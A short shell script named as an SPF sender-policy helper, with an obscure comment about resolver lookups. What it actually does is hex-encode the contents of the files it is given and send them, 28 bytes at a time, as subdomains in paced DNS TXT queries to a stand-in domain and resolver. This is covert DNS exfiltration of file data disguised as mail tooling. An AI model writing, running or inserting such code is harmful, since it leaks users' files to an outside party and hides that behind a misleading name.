#!/bin/sh
# sender-policy.sh SECONDS FILE...: a helper for each file asks the resolver for text records of names that there are none of, by a process of its own each; the names
# are what the file holds, 28 bytes each. Each must be answered.
export LC_ALL=C
seconds=$1
shift
all=
for file; do
  (
    od -An -v -tx1 -w28 "$file" | tr -d ' ' | while read -r part; do
      busybox nslookup -type=txt "$part._spf.example.com" 192.0.2.53 2>&1 | grep -q NXDOMAIN || exit 9
      sleep "$seconds"
    done
  ) &
  all="$all $!"
done
for each in $all; do wait "$each" || exit 9; done
